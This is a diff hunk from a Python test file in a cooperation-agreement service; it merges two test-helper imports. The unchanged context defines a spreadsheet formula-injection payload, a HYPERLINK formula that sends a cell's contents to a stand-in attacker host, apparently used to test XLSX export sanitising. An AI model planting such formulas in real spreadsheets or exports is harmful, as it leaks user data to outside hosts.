@@ -14,8 +14,7 @@ from sqlalchemy.orm import Session
 
 from coopzone.cooperation import service
 from coopzone.cooperation.schemas import AgreementCreate, PartyIn
-from tests.conftest import token_for
-from tests.cooperation.conftest import Coop
+from tests.helpers import Coop, token_for
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
